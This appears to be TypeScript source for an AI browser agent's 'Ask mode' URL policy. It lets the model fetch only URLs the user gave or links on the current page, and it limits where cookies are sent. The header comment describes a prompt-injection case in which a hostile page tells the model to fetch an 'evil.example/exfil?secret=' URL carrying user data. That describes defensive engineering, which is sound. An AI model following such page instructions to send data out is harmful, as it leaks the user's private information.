/**
 * Ask mode sends nothing the page chose: what fetch_url and research_url may reach when the
 * user asked only to read.
 *
 * A hostile page can tell the model to fetch `https://evil.example/exfil?secret=...` with data
 * from the user's other pages or task in the query string. In Ask, the request goes out only
 * when its URL is one the user gave (in the task text, the page the task started on, the
 * current page) or one the current page links to as navigation (an `<a href>` read through the
 * port): a URL the model built itself is refused before anything is sent. Cookies go only to
 * the sites of the URLs the user gave; a link to any other site is fetched without them.
 *
 * Invariant: the comparison is exact (the URL without its #fragment), so no query string or
 * path the model made up passes as a "link the page has".
 */

/** The cookie choice for one request: the user's cookies, or none. */
export type RequestCredentials = "include" | "omit";

export type AskFetchVerdict =
  | { allowed: true; credentials: RequestCredentials }
  | { allowed: false; message: string };

export interface AskFetchInputs {
  /** The URL the model asked for. */
  url: string;
  /** URLs the user gave for this conversation (task text, the page each task started on). */
  userUrls: readonly string[];
  /** The tab's current document. */
  pageUrl: string;
  /** The hrefs of the current page's links, read through the port (only when needed). */
  pageLinks: () => Promise<readonly string[]>;
}

/** How many of the page's links are read to check a URL against them. */
export const ASK_LINKS_READ = 2_000;

/** A URL as compared: absolute, normalized, without its fragment; undefined if not a URL. */
function comparable(url: string): string | undefined {
  try {
    const parsed = new URL(url.trim());
    parsed.hash = "";
    return parsed.href;
  } catch {
    return undefined;
  }
}

function hostOf(url: string): string | undefined {
  try {
    return new URL(url).hostname.toLowerCase() || undefined;
  } catch {
    return undefined;
  }
}

/** http(s) URLs written in a user's message, without trailing punctuation. */
export function urlsInText(text: string): string[] {
  const found = text.match(/https?:\/\/[^\s<>"'`()[\]{}]+/gi) ?? [];
  return found.map((url) => url.replace(/[.,;:!?]+$/, ""));
}

export async function askFetchVerdict(inputs: AskFetchInputs): Promise<AskFetchVerdict> {
  const target = comparable(inputs.url);
  const credentialSites = new Set(inputs.userUrls.map(hostOf).filter((host) => host !== undefined));
  const credentials: RequestCredentials =
    target && credentialSites.has(hostOf(target) ?? "") ? "include" : "omit";
  if (!target) return { allowed: false, message: `"${inputs.url}" is not an absolute URL.` };
  const given = new Set([...inputs.userUrls, inputs.pageUrl].map(comparable));
  if (given.has(target)) return { allowed: true, credentials };
  const links = new Set((await inputs.pageLinks()).map(comparable));
  if (links.has(target)) return { allowed: true, credentials };
  return {
    allowed: false,
    message: `Refused in Ask mode: ${inputs.url.slice(0, 120)} is neither a URL the user gave nor a link on the current page, and Ask sends no request the model or the page made up. Fetch a URL from the task or a link the page shows (extract_data type "links"), or ask the user to switch to Act mode.`,
  };
}
